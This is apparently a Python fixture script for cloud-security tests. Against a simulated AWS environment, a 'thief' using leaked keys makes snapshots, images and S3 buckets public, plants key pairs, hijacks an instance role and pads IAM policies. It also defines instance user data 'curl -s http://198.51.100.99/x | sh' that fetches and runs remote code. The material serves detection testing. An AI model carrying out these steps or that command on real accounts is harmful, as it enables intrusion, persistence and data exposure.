"""Pieces that single tests add to the attacked world.

    more.py FRONT_URL shared|siblings|profile|full|tagged|policies|alias|junior < world.json    does it and prints what it made
    more.py FRONT_URL keys < world.json        prints the public halves of key pairs, by region and name

What the thief does goes through its keys, what the owners do through theirs.
"""

import json
import sys

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519

from world import STRANGER, Actor, plain, service_trust

USER_DATA = "#!/bin/sh\ncurl -s http://198.51.100.99/x | sh\n"


def public_key():
    key = ed25519.Ed25519PrivateKey.generate().public_key()
    return key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)


def launch(actor, region, **asked):
    return actor("ec2", region).run_instances(MinCount=1, MaxCount=1, **asked)["Instances"][0]["InstanceId"]


def shared(leaked, alice, world):
    """The thief gives the owners' disks and images away, opens their buckets, and leaves keys of its own in three regions."""
    ours, theirs = alice("ec2", "eu-west-1"), leaked("ec2", "eu-west-1")
    volume = ours.create_volume(AvailabilityZone="eu-west-1a", Size=8)["VolumeId"]
    snapshot = ours.create_snapshot(VolumeId=volume)["SnapshotId"]
    theirs.modify_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission", OperationType="add", GroupNames=["all"])
    machine = next(one["id"] for one in world["innocent"] if one["kind"] == "aws.ec2.instance" and one["region"] == "eu-west-1")
    golden, backup = (ours.create_image(InstanceId=machine, Name=name)["ImageId"] for name in ("golden-image", "backup-image"))
    # Shared with a sister account by its owners: it stays so.
    for image in (golden, backup):
        ours.modify_image_attribute(ImageId=image, Attribute="launchPermission", OperationType="add", UserIds=[world["accounts"]["data"]])
    theirs.modify_image_attribute(ImageId=golden, Attribute="launchPermission", OperationType="add", UserIds=[STRANGER])
    own = theirs.create_image(InstanceId=machine, Name="loot-image")["ImageId"]
    theirs.modify_image_attribute(ImageId=own, Attribute="launchPermission", OperationType="add", UserGroups=["all"])

    block = {name: True for name in ("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets")}
    for bucket in ("shop-assets", "shop-invoices", "shop-quiet"):
        alice("s3").create_bucket(Bucket=bucket)
        alice("s3").put_public_access_block(Bucket=bucket, PublicAccessBlockConfiguration=block)
    leaked("s3").delete_public_access_block(Bucket="shop-assets")
    everybody = {"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::shop-assets/*"}]}
    leaked("s3").put_bucket_policy(Bucket="shop-assets", Policy=json.dumps(everybody))
    leaked("s3").delete_public_access_block(Bucket="shop-invoices")
    leaked("s3").put_bucket_acl(Bucket="shop-invoices", ACL="public-read")

    key, pairs = public_key(), {}
    for region in ("us-east-1", "eu-west-1", "sa-east-1"):
        pairs[region] = leaked("ec2", region).import_key_pair(KeyName="cache", PublicKeyMaterial=key)["KeyPairId"]
    # Of the same name, where the thief was too.
    kept = alice("ec2", "eu-central-1").import_key_pair(KeyName="cache", PublicKeyMaterial=public_key())["KeyPairId"]
    return {"snapshot": snapshot, "golden": golden, "backup": backup, "own": own, "pairs": pairs, "kept": kept}


def tagged(leaked, alice, world):
    function = next(one["id"] for one in world["resources"] if one["kind"] == "aws.lambda.function")
    alice("lambda", "eu-west-1").tag_resource(Resource=function, Tags={"keep": "yes"})
    return {}


def keys(leaked, alice, world):
    found = {region: alice("ec2", region).describe_key_pairs(IncludePublicKey=True)["KeyPairs"] for region in world["regions"]}
    return {region: {pair["KeyName"]: pair.get("PublicKey", "").split(" ")[:2] for pair in pairs} for region, pairs in found.items()}


def siblings(leaked, alice, world):
    """Machines of the owners that look like the thief's: by key pair, user data, image and launch template, one each."""
    deploy, owner = (Actor(leaked.url, world["keys"][name]) for name in ("deploy", "owner_data"))
    image, plain = "ami-0fedcba9876543210", "ami-0abcdef1234567890"
    bait = launch(leaked, "us-east-1", ImageId=image, KeyName="backup", UserData=USER_DATA)
    template = next(one["id"] for one in world["resources"] if one["kind"] == "aws.ec2.launch_template")
    launch(deploy, "us-west-2", LaunchTemplate={"LaunchTemplateId": template})
    return {"bait": bait, "template": template, "image": image, "alike": {
        "key pair": launch(alice, "us-east-1", ImageId=plain, KeyName="backup"),
        "user data": launch(alice, "sa-east-1", ImageId=plain, UserData=USER_DATA),
        "image": launch(alice, "eu-west-1", ImageId=image),
        "launch template": launch(owner, "us-west-2", LaunchTemplate={"LaunchTemplateId": template}),
    }, "unlike": launch(alice, "eu-west-2", ImageId=plain, UserData="#!/bin/sh\ntrue\n")}


def profile(leaked, alice, world):
    """The thief launches with a role of the owners, and gives that role to a machine of theirs that had none."""
    iam = alice("iam")
    iam.create_role(RoleName="worker", AssumeRolePolicyDocument=service_trust("ec2.amazonaws.com"))
    arn = iam.create_instance_profile(InstanceProfileName="worker")["InstanceProfile"]["Arn"]
    iam.add_role_to_instance_profile(InstanceProfileName="worker", RoleName="worker")
    own = launch(leaked, "eu-west-1", ImageId="ami-0abcdef1234567890", IamInstanceProfile={"Arn": arn})
    house = launch(alice, "eu-west-1", ImageId="ami-0abcdef1234567890", IamInstanceProfile={"Arn": arn})
    given = launch(alice, "eu-west-1", ImageId="ami-0abcdef1234567890")
    leaked("ec2", "eu-west-1").associate_iam_instance_profile(InstanceId=given, IamInstanceProfile={"Arn": arn})
    return {"arn": arn, "own": own, "house": house, "given": given}


def policies(leaked, alice, world):
    """The organization switches its policies on."""
    organization = Actor(leaked.url, world["keys"]["owner_management"])("organizations")
    organization.enable_policy_type(RootId=organization.list_roots()["Roots"][0]["Id"], PolicyType="SERVICE_CONTROL_POLICY")
    return {}


def full(leaked, alice, world):
    """The thief fills the inline policies of its own user, so that no deny fits in."""
    document = {"Version": "2012-10-17", "Statement": [{"Sid": f"Pad{n:03}", "Effect": "Allow", "Action": "s3:GetObject",
                                                          "Resource": f"arn:aws:s3:::bucket-{n:03}/*"} for n in range(18)]}
    text = json.dumps(document, separators=(",", ":"))
    leaked("iam").put_user_policy(UserName="ci-runner", PolicyName="padding", PolicyDocument=text)
    return {"policy": "padding", "document": document, "characters": len(text)}


def alias(leaked, alice, world):
    Actor(leaked.url, world["keys"]["owner_management"])("iam").create_account_alias(AccountAlias="corp-main")
    return {}


def junior(leaked, alice, world):
    """Somebody who may read, and change nothing."""
    iam = alice("iam")
    iam.create_user(UserName="junior")
    iam.put_user_policy(UserName="junior", PolicyName="reads", PolicyDocument=json.dumps(
        {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": ["iam:List*", "iam:Get*", "iam:Simulate*"], "Resource": "*"}]}))
    return plain(iam.create_access_key(UserName="junior")["AccessKey"])


ALL = {"shared": shared, "siblings": siblings, "profile": profile, "full": full, "keys": keys, "tagged": tagged, "policies": policies, "alias": alias, "junior": junior}

if __name__ == "__main__":
    url, what = sys.argv[1:]
    given = json.load(sys.stdin)
    actors = (Actor(url, given["keys"][name]) for name in ("leaked", "alice"))
    json.dump(ALL[what](*actors, given), sys.stdout)
